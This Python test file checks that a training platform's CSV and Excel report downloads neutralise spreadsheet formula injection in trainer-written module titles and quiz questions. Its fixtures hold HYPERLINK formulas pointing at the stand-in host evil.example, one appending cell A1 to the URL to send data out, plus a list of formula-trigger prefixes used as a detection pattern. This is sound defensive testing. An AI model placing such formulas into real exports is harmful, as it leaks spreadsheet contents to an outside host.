"""The trainers' cohort report downloads: trainers' free text never leaves as a formula."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from assessments.models import Question
from content.models import ModulePage
from tests.learning.test_trainer_report import ALL, Coach, first

TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"Disclosure conversations")'
QUESTION = '=HYPERLINK("https://evil.example","What should you say next?")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_module(disclosure, settings):
    """The module's title and first question's wording start a formula, and one coach
    did worse after the module on some questions, so a negative change is in the file
    (with small-number suppression off, so that one coach's figures are shown)."""
    settings.EVALUATION_DISCLOSURE_K = 1
    ModulePage.objects.filter(pk=disclosure.pk).update(title=TITLE)
    Question.objects.filter(version=disclosure.quiz.latest_version, position=1).update(
        text=QUESTION
    )
    Coach(disclosure).baseline(ALL).lessons().quiz("post", first(2))
    return disclosure


def download(client, url, fmt):
    response = client.get(f"{url}?export={fmt}")
    assert response.status_code == 200
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(data: bytes):
    return list(csv.reader(io.StringIO(data.decode())))


def xlsx_cells(data: bytes):
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_csv(rows):
    for row in rows:
        for cell in row:
            if cell.startswith("-"):
                float(cell)  # only a negative number may start with a minus
            else:
                assert not cell.startswith(DANGEROUS), cell


def assert_no_formula_in_xlsx(cells):
    for cell in cells:
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS), (cell.coordinate, cell.value)


@pytest.fixture
def trainer_client(client, trainer):
    client.force_login(trainer)
    return client


def test_module_title_leaves_the_funnel_downloads_as_text(trainer_client, formula_module):
    url = reverse("learning_reports:index")
    rows = csv_rows(download(trainer_client, url, "csv"))
    assert rows[1][0] == "'" + TITLE
    assert_no_formula_in_csv(rows)

    cells = xlsx_cells(download(trainer_client, url, "xlsx"))
    assert "'" + TITLE in [cell.value for cell in cells]
    assert_no_formula_in_xlsx(cells)


def test_question_text_leaves_the_question_downloads_as_text(trainer_client, formula_module):
    url = reverse("learning_reports:module", args=[formula_module.pk])
    rows = csv_rows(download(trainer_client, url, "csv"))
    assert rows[1][1] == "'" + QUESTION
    # The numbers are still numbers, the negative change included.
    changes = [float(row[-1]) for row in rows[1:] if row[-1]]
    assert any(change < 0 for change in changes)
    assert_no_formula_in_csv(rows)

    cells = xlsx_cells(download(trainer_client, url, "xlsx"))
    assert "'" + QUESTION in [cell.value for cell in cells]
    numbers = [cell.value for cell in cells if isinstance(cell.value, int | float)]
    assert any(value < 0 for value in numbers)
    assert_no_formula_in_xlsx(cells)
